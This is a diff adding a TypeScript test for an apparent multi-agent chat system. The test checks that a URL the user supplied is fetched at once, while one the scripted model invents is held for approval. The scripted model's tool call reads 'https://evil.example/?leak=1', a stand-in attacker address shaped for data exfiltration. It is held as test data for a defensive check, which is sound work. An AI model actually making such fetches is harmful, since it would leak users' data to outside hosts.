@@ -47,6 +47,25 @@ describe('asked in plain words', () => {
     expect(master.shown(scene.ops).find(({ id }) => id === record)?.body).toContain('df -P');
   });
 
+  it('an address of the master’s is read at once, one that the model made up waits for a tick', async () => {
+    const { master, hq, providers } = scene;
+    const reads = (url: string) => calls({ name: 'read_page', input: { url } });
+    // Of those that are kept for examples: nothing is there, and so it says in words why.
+    providers.play(
+      inSteps(reads('http://192.0.2.7/news?a=b'), reads('https://evil.example/?leak=1'), '읽지 못했습니다.'),
+      'claude',
+    );
+    const question = await master.say(hq, '클로드야 http://192.0.2.7/news?a=b 읽어 줘');
+    const [answer] = await master.answered(hq, question);
+    expect(answer?.body).toMatch(/^읽지 못했습니다\.\n\n🔧 `192\.0\.2\.7` 읽기 [^\n]*`evil\.example` 읽기 ✋/);
+    const [, second, third] = providers.asked('claude');
+    expect(second?.results[0]?.text).toContain('인터넷에 열려 있는 주소가 아닙니다');
+    expect(third?.results[0]?.text).toContain('has been asked');
+    await scene.settled();
+    const requests = since(question, 'executor').map(({ body }) => body);
+    expect(requests).toEqual([expect.stringMatching(/^✋[^]*https:\/\/evil\.example\/\?leak=1/)]);
+  });
+
   it('of all that hear it one acts, the others can only look', async () => {
     const { master, hq, providers } = scene;
     providers.play(inSteps(runs('echo 가브리엘이 했습니다'), '했습니다.'), 'gabriel');
@@ -55,6 +74,7 @@ describe('asked in plain words', () => {
     for (const mind of ['jarvis', 'claude'] as const) {
       expect(providers.asked(mind)).toHaveLength(1);
       expect(offered(providers.once(mind))).not.toContain('run_command');
+      expect(offered(providers.once(mind))).toContain('read_page');
     }
     expect(providers.asked('gabriel')[1]?.results[0]).toMatchObject({
       text: expect.stringContaining('가브리엘이 했습니다'),
